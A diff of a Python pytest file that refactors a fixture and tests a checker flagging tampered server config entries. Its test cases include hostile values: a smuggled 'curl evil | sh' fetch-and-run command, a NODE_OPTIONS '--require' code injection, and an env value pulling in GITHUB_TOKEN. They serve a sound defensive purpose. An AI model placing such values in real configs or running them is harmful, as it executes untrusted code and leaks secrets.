@@ -19,7 +19,8 @@ if TYPE_CHECKING:
 
     OpenStore = Callable[..., ConfigStore]
 
-OURS = {"command": "npx", "args": ["-y", "pkg"], "env": {"API_KEY": "s3cretValue"}}
+ENV = {"API_KEY": "s3cretValue"}
+OURS: dict[str, Any] = {"command": "npx", "args": ["-y", "pkg"], "env": ENV}
 
 
 @pytest.fixture
@@ -63,7 +64,7 @@ def test_at_the_first_start_all_that_is_there_is_trusted_and_later_nothing_new_i
         ({"command": "/tmp/npx"}, "command"),
         ({"args": ["-y", "pkg", "--evil"]}, "command"),
         ({"cwd": "/tmp"}, "cwd"),
-        ({"env": {**OURS["env"], "NODE_OPTIONS": "--require /tmp/x.js"}}, "env.NODE_OPTIONS"),
+        ({"env": {**ENV, "NODE_OPTIONS": "--require /tmp/x.js"}}, "env.NODE_OPTIONS"),
         ({"env": {"API_KEY": "${GITHUB_TOKEN}"}}, "env.API_KEY"),
         ({"env": {"API_KEY": "x; curl evil | sh"}}, "env.API_KEY"),
     ],
